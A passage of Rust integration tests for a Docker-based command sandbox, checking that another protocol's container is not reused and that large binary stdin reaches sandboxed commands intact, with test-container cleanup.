            &format!("UPDATE leases SET container_id = '{other}' WHERE id = '{lease}'")
        ),
        1
    );

    let _stray = RemoveOnDrop(vec![ours, other.clone()]);

    let out = env.stigmer(&["run", "echo fresh"]);
    assert_eq!(text(&out.stdout), "fresh\n", "{}", text(&out.stderr));
    let used = env.last_execution()["container_id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_ne!(used, other, "the other protocol's container was reused");
    assert!(
        eventually(Duration::from_secs(10), || !container_exists(&other)),
        "the other protocol's container was left"
    );
}

/// Removes containers the store no longer knows (`docker rm -f`), whatever the test did.
struct RemoveOnDrop(Vec<String>);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = Command::new("docker")
            .args(["rm", "-f"])
            .args(&self.0)
            .output();
    }
}

#[test]
fn stdin_reaches_a_sandbox_command_whole_and_a_container_is_still_reused_clean() {
    use sha2::Digest;
    let env = sandbox_env();
    let _cleanup = common::RemoveContainers(&env);
    let out = common::run_with_stdin(&env, &["run", "cat"], b"hello\n".to_vec());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "hello\n");
    let first = env.last_execution()["container_id"].clone();

    // 50 MB of binary data with NUL bytes, from a file, through the engine's stdin pipe.
    let data: Vec<u8> = (0..50u32 * 1024 * 1024)
        .map(|i| (i.wrapping_mul(7) % 253) as u8)
        .collect();
    let sha = hex::encode(sha2::Sha256::digest(&data));
    let file = env.dir.path().join("input.bin");
    std::fs::write(&file, &data).unwrap();
    let out = common::output_within_stdin(
        env.cmd().args(["run", "sha256sum"]),
        std::fs::File::open(&file).unwrap(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stdout).starts_with(&sha), "{}", text(&out.stdout));
    let record = env.last_execution();
    assert_eq!(record["stdin_sha256"], sha.as_str(), "{record}");
    assert_eq!(
        record["container_id"], first,
        "the clean container is reused for a run with stdin"
    );

    // A command that ignores its stdin does not hang; the next run finds nothing left.
    let out = common::output_within_stdin(
        env.cmd().args(["run", "true"]),
        std::fs::File::open(&file).unwrap(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let out = env.stigmer(&[
        "run",
        "ps -eo comm= | grep -cv -e '^ps$' -e '^grep$' -e '^sh$'",
    ]);
    assert_eq!(
        text(&out.stdout).trim(),
        "1",
        "only the agent is left in the container: {}",
        text(&out.stdout)
    );
}
